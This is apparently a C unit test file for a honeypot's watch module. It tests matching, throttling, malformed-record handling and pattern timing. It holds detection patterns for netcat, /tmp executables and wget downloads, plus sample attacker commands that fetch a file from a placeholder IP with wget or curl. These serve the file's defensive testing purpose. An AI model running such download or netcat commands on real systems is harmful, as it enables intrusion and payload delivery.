/* SPDX-License-Identifier: ISC */
/* What triggers wait for inside of a honeypot. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "proc/introspect/watch.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define SEC 1000000000ull

static struct watches w;
static struct intro_watch conf;

static void wait_for(unsigned on, const char *match)
{
	conf.at[conf.n].on = on;
	strcpy(conf.at[conf.n++].match, match);
}

static int set_up(void **state)
{
	(void)state;
	memset(&conf, 0, sizeof(conf));
	conf.generation = 7;
	return 0;
}

/* In memory of exactly its length: a sanitizer sees a byte too many. */
static void record(unsigned kind, unsigned flags, const void *payload, size_t n)
{
	struct intro_rec h = { .len = (uint32_t)(sizeof(h) + n),
			       .kind = (uint16_t)kind,
			       .flags = (uint16_t)flags,
			       .pid = 42,
			       .uid = 1000,
			       .session = 9 };
	struct intro_rec *r = malloc(sizeof(h) + n);
	memcpy(r, &h, sizeof(h));
	memcpy(r + 1, payload, n);
	watches_record(&w, r, sizeof(h) + n);
	free(r);
}

static void exec(int32_t ret, const char *path, unsigned flags)
{
	char p[2000] = { 0 };
	memcpy(p, &ret, 4);
	strcpy(p + 8, path);
	record(INTRO_EXEC, flags, p, 8 + strlen(path) + 1 + 2);
}

/* As busybox's shell does. */
static void applet(const char *name)
{
	char p[200] = { 0 };
	int n = snprintf(p + 8, sizeof(p) - 8, "/proc/self/exe%c/root%c%s%c-x", 0, 0, name, 0);
	record(INTRO_EXEC, 0, p, 8 + (size_t)n + 1);
}

static void command(const char *line)
{
	record(INTRO_COMMAND, 0, line, strlen(line) + 1);
}

static void login(uint32_t outcome, const char *user)
{
	char p[200] = { 0 };
	memcpy(p, &outcome, 4);
	strcpy(p + 8, user);
	record(INTRO_LOGIN, 0, p, 8 + strlen(user) + 1 + 4);
}

static uint64_t now = 100 * SEC;

/* Indexes of what is told now, as bits. */
static unsigned told(void)
{
	struct intro_hit x;
	unsigned bits = 0;
	now += 2 * SEC;
	while (watches_next(&w, now, &x)) {
		assert_int_equal(x.generation, 7);
		assert_int_equal(x.pid, 42);
		assert_non_null(memchr(x.text, 0, sizeof(x.text)));
		bits |= 1u << x.watch;
		watches_told(&w, now, &x);
	}
	assert_int_equal(w.pending, 0);
	return bits;
}

static void matching(void **state)
{
	(void)state;
	wait_for(TRIGGER_PROCESS, "nc*");
	wait_for(TRIGGER_PROCESS, "/tmp/*");
	wait_for(TRIGGER_COMMAND, "wget*http");
	wait_for(TRIGGER_LOGIN, "root");
	wait_for(TRIGGER_LOGIN, "");
	wait_for(TRIGGER_PROCESS, "@(x|y)"); /* no extended patterns */
	assert_int_equal(watches_set(&w, &conf, NULL), 0);
	exec(0, "/usr/bin/nc.traditional", 0);
	assert_int_equal(told(), 1);
	exec(0, "/usr/bin/sync", 0);
	assert_int_equal(told(), 0);
	exec(-2, "/usr/bin/nc", 0); /* was not executed */
	assert_int_equal(told(), 0);
	exec(0, "nc", 0);
	assert_int_equal(told(), 1);
	exec(0, "/usr/bin/nc", INTRO_F_CONT); /* argument bytes only */
	assert_int_equal(told(), 0);
	exec(0, "/tmp/.x/ncx", 0);
	assert_int_equal(told(), 3);
	exec(0, "/usr/bin/x", 0);
	assert_int_equal(told(), 0);
	applet("nc");
	assert_int_equal(told(), 1);
	applet("-/bin/ncat");
	assert_int_equal(told(), 1);
	applet("ls");
	assert_int_equal(told(), 0);
	command("cd /tmp; wget -q http://192.0.2.1/x");
	assert_int_equal(told(), 4);
	command("curl http://192.0.2.1/x");
	assert_int_equal(told(), 0);
	login(INTRO_SUCCEEDED, "root");
	assert_int_equal(told(), 8 + 16);
	login(INTRO_SUCCEEDED, "rooty");
	assert_int_equal(told(), 16);
	login(INTRO_FAILED, "root");
	assert_int_equal(told(), 0);
}

static void throttled(void **state)
{
	struct intro_hit x;
	unsigned messages = 0, counted = 0;
	(void)state;
	wait_for(TRIGGER_COMMAND, "");
	assert_int_equal(watches_set(&w, &conf, NULL), 0);
	for (unsigned ms = 0; ms < 5000; ms++, now += SEC / 1000) {
		command("a");
		while (watches_next(&w, now, &x)) {
			watches_told(&w, now, &x);
			messages++;
			counted += x.count;
		}
	}
	now += SEC;
	if (watches_next(&w, now, &x))
		counted += x.count;
	assert_int_equal(messages, 5);
	assert_int_equal(counted, 5000);
}

static void nonsense(void **state)
{
	struct err e;
	(void)state;
	wait_for(TRIGGER_COMMAND, "x");
	assert_int_equal(watches_set(&w, &conf, &e), 0);
	record(INTRO_COMMAND, 0, "x", 1); /* no end */
	record(INTRO_COMMAND, 0, "", 0);
	record(INTRO_EXEC, 0, "abc", 3);
	record(INTRO_LOGIN, 0, "abcdefg", 7);
	struct intro_rec liar = { .kind = INTRO_COMMAND, .len = 4000 };
	watches_record(&w, &liar, sizeof(liar));
	liar.len = 3;
	watches_record(&w, &liar, sizeof(liar));
	assert_int_equal(told(), 0);
	/* A bad list changes nothing. */
	struct intro_watch bad = conf;
	bad.at[0].on = TRIGGER_LIMIT;
	assert_int_equal(watches_set(&w, &bad, &e), -EINVAL);
	bad = conf;
	bad.n = MODEL_TRIGGERS + 1;
	assert_int_equal(watches_set(&w, &bad, &e), -EINVAL);
	bad = conf;
	memset(bad.at[0].match, 'a', sizeof(bad.at[0].match));
	assert_int_equal(watches_set(&w, &bad, &e), -EINVAL);
	command("x");
	assert_int_equal(told(), 1);
}

/* A pattern with many stars on a line made for it: a bounded time. */
static void stars(void **state)
{
	char line[16000];
	struct timespec a, b;
	(void)state;
	wait_for(TRIGGER_COMMAND, "a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b");
	assert_int_equal(watches_set(&w, &conf, NULL), 0);
	memset(line, 'a', sizeof(line));
	line[sizeof(line) - 1] = 0;
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (int i = 0; i < 10; i++)
		command(line);
	clock_gettime(CLOCK_MONOTONIC, &b);
	assert_int_equal(told(), 0);
	assert_true(b.tv_sec - a.tv_sec < 5);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(matching, set_up),
		cmocka_unit_test_setup(throttled, set_up),
		cmocka_unit_test_setup(nonsense, set_up),
		cmocka_unit_test_setup(stars, set_up),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
